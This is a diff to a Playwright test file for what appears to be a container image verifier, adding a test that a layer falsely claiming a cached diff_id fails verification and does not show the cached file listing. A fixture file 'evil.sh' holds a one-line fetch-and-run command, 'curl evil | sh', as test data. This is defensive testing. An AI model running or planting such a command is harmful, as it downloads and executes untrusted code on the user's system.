@@ -6,8 +6,12 @@
  */
 import { test, expect, type Page } from '@playwright/test';
 import { mkdir, readFile, writeFile } from 'node:fs/promises';
+import { gzipSync } from 'node:zlib';
+import { GZIP_LAYER } from '../support/attacks.ts';
+import { blob, ociArchive } from '../support/oci.ts';
+import { sha256, writeTar } from '../support/tar.ts';
 import { TAMPER_FIXTURE, tamperedFixture } from '../support/tampered.ts';
-import { drop, fixture, summaryField } from './helpers.ts';
+import { drop, fixture, summaryField, verified } from './helpers.ts';
 
 const ORIGINAL = TAMPER_FIXTURE;
 const TAMPERED = 'tampered-arm64-v8.tar';
@@ -153,4 +157,47 @@ test('a report opened from the library alone is not verified: history only, and 
   // The list says what was done, and when, as history.
   await page.getByRole('button', { name: 'Recent images', exact: true }).click();
   await expect(recent(page).getByRole('listitem')).toContainText('history: verified on');
+});
+
+test('a layer whose config claims a cached diff_id: the kept listing is not shown as its files', async ({
+  page,
+}, testInfo) => {
+  // A: a good layer, listed while verified and kept in the library under its diff_id.
+  // B: the same config diff_id over other bytes (an added evil.sh): its listing must come from
+  // its own bytes, or not at all; never A's, found in the library by the claimed diff_id.
+  const good = writeTar([{ name: 'good.txt', data: 'good\n' }]);
+  const evil = writeTar([
+    { name: 'good.txt', data: 'good\n' },
+    { name: 'evil.sh', data: 'curl evil | sh\n' },
+  ]);
+  const archive = (ref: string, tar: Uint8Array) =>
+    ociArchive({
+      ref,
+      layer: { layer: blob(gzipSync(tar)), diffId: sha256(good), mediaType: GZIP_LAYER },
+    });
+  await mkdir(testInfo.outputDir, { recursive: true });
+  const a = `${testInfo.outputDir}/good.tar`;
+  const b = `${testInfo.outputDir}/claims-good.tar`;
+  await writeFile(a, archive('victim:good', good));
+  await writeFile(b, archive('victim:evil', evil));
+  const files = page.getByTestId('files');
+
+  await drop(page, a);
+  await verified(page);
+  await expect(status(page)).toHaveText(/^Verified: all \d+ checks passed\.$/);
+  await files.getByRole('button', { name: 'Tree' }).click();
+  await expect(files.getByRole('tree').locator('[data-path="good.txt"]')).toBeVisible();
+
+  // A fresh page: only the library (IndexedDB) links the two.
+  await page.reload();
+  await drop(page, b);
+  await verified(page);
+  await expect(status(page)).toHaveText(/^Verification failed/);
+  await expect(summaryField(page, 'verdict')).toHaveText('mismatch');
+  // The Files view says why it shows nothing, and A's listing is not passed off as B's files.
+  await expect(page.getByRole('region', { name: 'Files', exact: true })).toContainText(
+    `layer 1 could not be listed: its content is ${sha256(evil)}, not this diff_id`,
+  );
+  await expect(page.getByRole('tree')).toHaveCount(0);
+  await expect(page.getByText('good.txt')).toHaveCount(0);
 });
